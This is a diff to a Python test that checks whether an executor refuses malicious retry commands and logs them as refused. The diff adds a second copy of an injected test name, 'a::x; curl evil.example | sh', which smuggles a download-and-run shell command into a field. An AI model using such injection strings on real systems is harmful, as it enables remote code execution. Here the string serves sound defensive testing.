@@ -38,7 +38,8 @@ async def test_refused_commands_get_outcomes_and_once_returns(kafka_bootstrap: s
 
     c = {1: command(1, "github", "retry_backoff", backoff_seconds=[1e12]),
          2: command(2, "github", "retry", owner="evil"),
-         3: command(3, "jenkins", "retry_tests_isolated", tests=["a::x; curl evil.example | sh"]),
+         3: command(3, "jenkins", "retry_tests_isolated", tests=["a::x; curl evil.example | sh"],
+                    failed_tests=["a::x; curl evil.example | sh"]),
          4: command(4, "github", "retry"),
          5: command(5, "github", "retry_backoff", backoff_seconds=[1e12])}  # scheduled by an older executor
     data, log = tmp_path / "executor", tmp_path / "executor.log"
@@ -65,4 +66,4 @@ async def test_refused_commands_get_outcomes_and_once_returns(kafka_bootstrap: s
                      (5, "parameters.backoff_seconds[0]")):
         assert o[n].status == "refused" and o[n].detail.startswith(f"refused: {field}"), (n, o[n].detail)
     assert len(ScheduleStore(data)) == 0
-    assert "skipped=4 succeeded=1" in log.read_text()
+    assert "refused=4 succeeded=1" in log.read_text()
